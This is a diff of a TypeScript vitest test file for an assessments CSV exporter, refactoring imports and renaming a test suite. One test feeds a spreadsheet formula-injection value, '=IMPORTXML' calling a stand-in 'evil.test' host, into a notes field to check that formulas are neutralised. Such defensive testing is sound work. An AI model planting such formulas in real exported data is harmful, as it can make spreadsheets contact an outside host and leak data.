@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
-import { parseAssessment } from '../../../src/api/schemas'
-import { ASSESSMENT_CSV_HEADERS, assessmentCsvRows, assessmentsCsv, infectionCells } from '../../../src/features/assessments/assessment-csv'
+import { csvOf } from '../../../src/shared/csv'
+import { parseAssessment } from '../../../src/api/schemas/assessment'
+import { ASSESSMENT_CSV_HEADERS, assessmentCsvRows, ASSESSMENTS_CSV, infectionCells } from '../../../src/features/assessments/assessment-csv'
 import { assessment, asJson } from '../api/fixtures'
 
 /** The fixture's values with some replaced. */
@@ -100,10 +101,10 @@ describe('assessmentCsvRows', () => {
   })
 })
 
-describe('assessmentsCsv', () => {
+describe('ASSESSMENTS_CSV', () => {
   it('writes a header row, quotes free text and neutralises formulas in it', () => {
     const raw = assessment(8, { values: valuesWith(8, { notes: '=IMPORTXML("http://evil.test")\nsecond line' }) })
-    const csv = assessmentsCsv([parseAssessment(raw)])
+    const csv = csvOf(ASSESSMENTS_CSV, [parseAssessment(raw)]).csv
     const [header, ...rest] = csv.split('\r\n')
     expect(header).toBe(ASSESSMENT_CSV_HEADERS.join(','))
     expect(rest).toHaveLength(2)
